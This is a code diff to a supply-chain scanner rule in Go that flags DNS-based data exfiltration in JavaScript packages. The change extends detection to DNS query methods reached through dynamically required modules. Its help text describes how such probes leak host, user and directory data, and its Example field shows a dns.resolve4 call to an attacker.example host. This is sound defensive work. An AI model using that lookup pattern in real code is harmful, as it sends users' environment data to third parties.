@@ -321,10 +321,12 @@ type DNSExfil struct{}
 // Meta implements analyze.Rule.
 func (DNSExfil) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "net/dns-exfil", Version: 2, Title: "Smuggles data out in DNS lookups",
+		ID: "net/dns-exfil", Version: 3, Title: "Smuggles data out in DNS lookups",
 		Help: "The code encodes data (hex/base32/base64) and resolves host names built from it. DNS queries pass most firewalls, so dependency-confusion " +
 			"probes use them to report the victim's host name, user and directory to an attacker's name server. The lookup, the encoding and the " +
-			"host data must sit together (within 2,000 bytes of code): a proxy's lookup and a hash elsewhere in a bundle are unrelated.",
+			"host data must sit together (within 2,000 bytes of code): a proxy's lookup and a hash elsewhere in a bundle are unrelated. " +
+			"A query method named for DNS (resolve4, resolveTxt…) counts on any object in a file that names the dns module, as a module " +
+			"loaded by a computed require is called through whatever holds it.",
 		Remediation:     "Remove the package; it reports your environment to a third party.",
 		Example:         "dns.resolve4(`${hex}.${id}.attacker.example`)",
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigExfil, Needs: analyze.NeedCode,
@@ -336,9 +338,11 @@ func (DNSExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter
 	for _, f := range rulekit.Code(ctx, t) {
 		var dns []int
 		var encode, data []jsast.Pos
+		dnsLoaded := loadsDNS(f.Facts)
 		for i, c := range f.Facts.Calls {
 			root := rulekit.Root(c.Callee)
-			if (root == "dns" || root == "dns/promises") && strings.HasPrefix(rulekit.Last(c.Callee), "resolve") || c.Callee == "dns.lookup" {
+			if (root == "dns" || root == "dns/promises") && strings.HasPrefix(rulekit.Last(c.Callee), "resolve") || c.Callee == "dns.lookup" ||
+				dnsLoaded && dnsQuery[rulekit.Last(c.Callee)] {
 				if len(c.Args) > 0 && !c.Args[0].Known {
 					dns = append(dns, i)
 				}
@@ -366,6 +370,27 @@ func (DNSExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter
 		}
 	}
 	return nil
+}
+
+// dnsQuery are the dns module's query methods whose names say DNS
+// whatever they are called on (resolve and lookup do not).
+var dnsQuery = map[string]bool{"resolve4": true, "resolve6": true, "resolveTxt": true, "resolveAny": true, "resolveCname": true, "resolveMx": true, "resolveNs": true}
+
+// loadsDNS reports a file that names the dns module: imported, or as a
+// string handed to a require at run time (a module object filled in a
+// loop), so its query methods are DNS lookups on any receiver.
+func loadsDNS(f *jsast.Facts) bool {
+	for _, im := range f.Imports {
+		if im.Module == "dns" || im.Module == "node:dns" || im.Module == "dns/promises" {
+			return true
+		}
+	}
+	for _, s := range f.Strings {
+		if s.Value == "dns" || s.Value == "node:dns" {
+			return true
+		}
+	}
+	return false
 }
 
 var bareDomain = regexp.MustCompile(`^[*a-z0-9.-]+\.[a-z]{2,}$`)
